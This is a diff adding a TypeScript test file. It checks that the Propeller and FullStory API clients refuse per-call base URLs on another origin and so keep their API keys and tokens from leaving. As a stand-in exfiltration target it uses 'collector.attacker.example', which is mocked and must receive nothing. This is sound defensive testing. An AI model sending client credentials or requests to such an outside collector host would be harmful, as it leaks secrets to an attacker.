@@ -1,0 +1,94 @@
+// openapi-fetch lets each raw call name its own `baseUrl`. The client's credentials (an API key header, or
+// Propeller's access token) belong to the client's base URL's origin: a call aimed at another origin must not
+// carry them there, nor make Propeller fetch a token for it.
+import { HttpResponse, http } from "msw";
+import { describe, expect, it } from "vitest";
+import { createFullStoryClient } from "../../src/fullstory/client.js";
+import { createPropellerClient } from "../../src/propeller/client.js";
+import { seededFaker } from "../../src/testing/fixtures/faker.js";
+import { HOSTS, useMswServer } from "../support/msw.js";
+
+const server = useMswServer();
+const ELSEWHERE = "https://collector.attacker.example";
+const f = seededFaker("per-call base url");
+const users = { users: [{ source: "CRM", sourceId: "C-1" }] };
+
+/** Every request the other origin and Propeller's token endpoint receive. */
+function watch() {
+  const elsewhere: Request[] = [];
+  const tokenRequests: Request[] = [];
+  server.use(
+    http.all(`${ELSEWHERE}/*`, ({ request }) => {
+      elsewhere.push(request);
+      return HttpResponse.json({ data: [], messages: [], total: 0 });
+    }),
+    http.post(`${HOSTS.propeller}/oauth2/token`, ({ request }) => {
+      tokenRequests.push(request);
+      return HttpResponse.json({
+        access_token: f.string.alphanumeric(32),
+        expires_in: 1800,
+        token_type: "Bearer",
+      });
+    }),
+  );
+  return { elsewhere, tokenRequests };
+}
+
+const propeller = () =>
+  createPropellerClient({
+    clientId: f.string.uuid(),
+    clientSecret: f.string.alphanumeric(32),
+    sleep: async () => {},
+  });
+
+describe("a call whose own baseUrl names another origin", () => {
+  it("Propeller raw.POST: refused before sending, no token fetched, nothing reaches the other origin", async () => {
+    const seen = watch();
+    const call = propeller().raw.POST("/v2/users/bulk/sourceId", {
+      baseUrl: ELSEWHERE,
+      body: users,
+    });
+    await expect(call).rejects.toThrow(
+      /bulkUsersBySourceId: .*another origin than the client's base URL.*nothing was sent/,
+    );
+    expect(seen.elsewhere).toHaveLength(0);
+    expect(seen.tokenRequests).toHaveLength(0);
+  });
+
+  it("a Propeller operation method given a baseUrl from JavaScript: refused alike", async () => {
+    const seen = watch();
+    const send = propeller().bulkUsersBySourceId as (init: object) => Promise<unknown>;
+    await expect(send({ baseUrl: ELSEWHERE, body: users })).rejects.toBeInstanceOf(TypeError);
+    expect(seen.elsewhere).toHaveLength(0);
+    expect(seen.tokenRequests).toHaveLength(0);
+  });
+
+  it("FullStory raw.POST: its API key does not go there", async () => {
+    const seen = watch();
+    const client = createFullStoryClient({ apiKey: `na1.${f.string.alphanumeric(32)}` });
+    const call = client.raw.POST("/v2/users/batch", {
+      baseUrl: `${ELSEWHERE}/`,
+      body: { requests: [{ uid: "u-1" }] },
+    });
+    await expect(call).rejects.toBeInstanceOf(TypeError);
+    expect(seen.elsewhere).toHaveLength(0);
+  });
+
+  it("a baseUrl on the client's own origin still goes out, with the token", async () => {
+    const seen = watch();
+    const received: Request[] = [];
+    server.use(
+      http.post(`${HOSTS.propeller}/v2/users/bulk/sourceId`, ({ request }) => {
+        received.push(request);
+        return HttpResponse.json({ data: [], messages: [], total: 0 });
+      }),
+    );
+    const { response } = await propeller().raw.POST("/v2/users/bulk/sourceId", {
+      baseUrl: `${HOSTS.propeller}/`,
+      body: users,
+    });
+    expect(response.status).toBe(200);
+    expect(received[0]?.headers.get("authorization")).toMatch(/^Bearer /);
+    expect(seen.tokenRequests).toHaveLength(1);
+  });
+});
